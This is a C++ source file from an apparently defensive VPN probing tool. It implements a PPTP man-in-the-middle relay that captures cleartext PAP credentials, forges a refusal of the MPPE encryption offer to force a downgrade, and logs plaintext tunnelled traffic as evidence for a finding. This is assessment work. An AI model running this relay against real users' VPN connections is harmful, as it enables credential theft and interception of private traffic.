#include "vpnprobe/probe/pptp_relay.hpp"

#include <array>
#include <chrono>

#include "vpnprobe/probe/pptp.hpp"
#include "vpnprobe/wire/ppp.hpp"
#include "vpnprobe/wire/pptp.hpp"

namespace vpnprobe::probe {

using namespace std::chrono;

PptpMitmRelay::PptpMitmRelay(PptpRelayOptions options) : options_(std::move(options)) {}

void PptpMitmRelay::bind() {
    control_listener_ = net::TcpListener::bind(options_.listen_ip, options_.control_port);
    downstream_data_ = net::UdpSocket::bind(options_.listen_ip, options_.data_port);
    upstream_data_ = net::UdpSocket::bind_loopback();
}

PptpRelayResult PptpMitmRelay::serve_one() {
    PptpRelayResult result;
    result.transcript = Transcript(options_.target_label);
    Transcript& tr = result.transcript;

    if (!control_listener_.valid()) {
        bind();
    }

    const auto deadline = steady_clock::now() + options_.session_timeout;
    auto remaining = [&] {
        return std::max(milliseconds(0),
                        duration_cast<milliseconds>(deadline - steady_clock::now()));
    };

    auto downstream_opt = control_listener_.accept(remaining());
    if (!downstream_opt) {
        tr.record(Direction::Local, "tcp", false, "no client connected before the timeout");
        result.finding = judge_optional_encryption(options_.target_label, false, false, false,
                                                   false, false, false, {}, {}, {});
        return result;
    }
    net::TcpStream downstream = std::move(*downstream_opt);
    tr.record(Direction::ClientToProbe, "tcp", false, "client control connection accepted");

    auto up = net::TcpStream::connect(options_.upstream_ip, options_.upstream_control_port,
                                      remaining());
    if (!up.stream) {
        tr.record(Direction::ProbeToUpstream, "tcp", false, "upstream control connect failed");
        result.finding = judge_optional_encryption(options_.target_label, false, false, false,
                                                   false, false, false, {}, {}, {});
        return result;
    }
    net::TcpStream upstream = std::move(*up.stream);
    tr.record(Direction::ProbeToUpstream, "tcp", false, "upstream control connection open");

    std::optional<std::string> client_ip;
    std::uint16_t client_port = 0;
    std::uint32_t inject_seq = 0x40000000;  // distinct space for injected packets

    std::optional<std::size_t> ev_injected;
    std::optional<std::size_t> ev_first_plaintext;

    auto send_ppp = [&](bool to_client, std::uint16_t call_id, const Bytes& ppp_frame) {
        wire::GrePacket p;
        p.call_id = call_id;
        p.seq = inject_seq++;
        p.payload = ppp_frame;
        Bytes raw = wire::encode_gre(p);
        if (to_client) {
            if (client_ip) {
                downstream_data_.send_to(*client_ip, client_port, raw);
            }
        } else {
            upstream_data_.send_to(options_.upstream_ip, options_.upstream_data_port, raw);
        }
    };

    // Inspects one PPP frame travelling through the relay.  Returns false if
    // the frame must be absorbed instead of forwarded.
    auto inspect = [&](bool from_client, std::uint16_t gre_call_id,
                       const Bytes& ppp_raw) -> bool {
        auto frame = wire::decode_ppp_frame(ppp_raw);
        if (!frame) {
            return true;
        }
        if (frame->protocol == wire::kProtoMppe) {
            result.saw_encrypted_data = true;
            return true;
        }
        if (frame->protocol == wire::kProtoIpv4) {
            result.plaintext_ip_frames.push_back(frame->payload);
            const std::size_t idx =
                tr.record(from_client ? Direction::ClientToProbe : Direction::UpstreamToProbe,
                          "ppp", true,
                          "cleartext ipv4 datagram crossed the relay (" +
                              std::to_string(frame->payload.size()) + " bytes)",
                          frame->payload);
            if (!ev_first_plaintext) {
                ev_first_plaintext = idx;
            }
            if (auto payload = wire::extract_udp_payload(frame->payload)) {
                result.plaintext_udp_payloads.push_back(*payload);
            }
            return true;
        }
        auto pkt = wire::decode_control(frame->payload);
        if (!pkt) {
            return true;
        }
        if (frame->protocol == wire::kProtoPap && pkt->code == wire::kPapAuthReq) {
            if (auto req = wire::decode_pap_request(pkt->data)) {
                result.captured_credentials = Credentials{req->username, req->password};
                tr.record(Direction::ClientToProbe, "ppp", true,
                          "captured cleartext credentials for user " + req->username);
            }
            return true;
        }
        if (frame->protocol == wire::kProtoChap && pkt->code == wire::kChapSuccess &&
            !from_client) {
            result.saw_auth_success = true;
            tr.record(Direction::UpstreamToProbe, "ppp", false,
                      "authentication succeeded end to end; relay arming downgrade");
            return true;
        }
        if (frame->protocol == wire::kProtoCcp &&
            pkt->code == static_cast<std::uint8_t>(wire::PppCode::ConfReq) &&
            options_.inject_downgrade && result.saw_auth_success) {
            auto opts = wire::decode_options(pkt->data);
            if (opts) {
                for (const auto& o : *opts) {
                    if (o.type == wire::kCcpOptMppe) {
                        // Refuse the encryption offer on the other party's
                        // behalf and drop the original request.
                        Bytes rej = wire::encode_ppp_frame(
                            {wire::kProtoCcp,
                             wire::encode_control(
                                 {static_cast<std::uint8_t>(wire::PppCode::ConfRej), pkt->id,
                                  wire::encode_options({o})})});
                        send_ppp(/*to_client=*/from_client, gre_call_id, rej);
                        result.downgrade_injected = true;
                        const std::size_t idx = tr.record(
                            from_client ? Direction::ProbeToClient : Direction::ProbeToUpstream,
                            "ppp", false,
                            std::string("relay forged a refusal of the ") +
                                (from_client ? "client's" : "server's") +
                                " encryption offer");
                        if (!ev_injected) {
                            ev_injected = idx;
                        }
                        return false;
                    }
                }
            }
        }
        if (frame->protocol == wire::kProtoLcp &&
            pkt->code == static_cast<std::uint8_t>(wire::PppCode::TermReq) && from_client &&
            result.downgrade_injected) {
            result.client_aborted = true;
            tr.record(Direction::ClientToProbe, "ppp", false,
                      "client tore the link down after the forged refusal");
        }
        return true;
    };

    std::array<std::uint8_t, 4096> buf{};
    bool down_open = true;
    bool up_open = true;
    // After either control channel closes, keep relaying datagrams briefly
    // so in-flight traffic is still observed.
    std::optional<steady_clock::time_point> drain_until;
    auto begin_drain = [&] {
        if (!drain_until) {
            drain_until = steady_clock::now() + milliseconds(200);
        }
    };
    while (steady_clock::now() < deadline) {
        if (drain_until && steady_clock::now() >= *drain_until) {
            break;
        }
        if (options_.stop_on_plaintext && !result.plaintext_udp_payloads.empty()) {
            break;
        }
        // ids: 0 = client data, 1 = server data, 2 = client control,
        // 3 = server control (control fds drop out once closed).
        std::vector<int> fds{downstream_data_.fd(), upstream_data_.fd()};
        std::vector<int> ids{0, 1};
        if (down_open) {
            fds.push_back(downstream.fd());
            ids.push_back(2);
        }
        if (up_open) {
            fds.push_back(upstream.fd());
            ids.push_back(3);
        }
        auto ready = net::wait_readable(fds, milliseconds(50));
        for (std::size_t r : ready) {
            switch (ids[r]) {
                case 2: {  // client control -> server
                    auto n = downstream.read_some(buf, milliseconds(10));
                    if (!n || *n == 0) {
                        tr.record(Direction::ClientToProbe, "tcp", false,
                                  "client closed the control connection");
                        down_open = false;
                        begin_drain();
                        break;
                    }
                    upstream.write_all(ByteView(buf.data(), *n));
                    break;
                }
                case 3: {  // server control -> client
                    auto n = upstream.read_some(buf, milliseconds(10));
                    if (!n || *n == 0) {
                        tr.record(Direction::UpstreamToProbe, "tcp", false,
                                  "server closed the control connection");
                        up_open = false;
                        begin_drain();
                        break;
                    }
                    downstream.write_all(ByteView(buf.data(), *n));
                    break;
                }
                case 0: {  // client data -> server
                    auto dg = downstream_data_.recv_from(milliseconds(10));
                    if (!dg) {
                        break;
                    }
                    if (!client_ip) {
                        client_ip = dg->ip;
                        client_port = dg->port;
                    }
                    auto gre = wire::decode_gre(dg->payload);
                    if (!gre) {
                        break;
                    }
                    if (gre->payload.empty() ||
                        inspect(/*from_client=*/true, gre->call_id, gre->payload)) {
                        upstream_data_.send_to(options_.upstream_ip,
                                               options_.upstream_data_port, dg->payload);
                    }
                    break;
                }
                case 1: {  // server data -> client
                    auto dg = upstream_data_.recv_from(milliseconds(10));
                    if (!dg) {
                        break;
                    }
                    auto gre = wire::decode_gre(dg->payload);
                    if (!gre) {
                        break;
                    }
                    if (gre->payload.empty() ||
                        inspect(/*from_client=*/false, gre->call_id, gre->payload)) {
                        if (client_ip) {
                            downstream_data_.send_to(*client_ip, client_port, dg->payload);
                        }
                    }
                    break;
                }
                default:
                    break;
            }
        }
    }

    result.finding = judge_optional_encryption(
        options_.target_label, result.saw_auth_success,
        /*mppe_active=*/result.saw_encrypted_data, result.downgrade_injected,
        !result.plaintext_ip_frames.empty(), result.saw_encrypted_data, result.client_aborted,
        ev_injected, ev_first_plaintext, std::nullopt);
    return result;
}

}  // namespace vpnprobe::probe
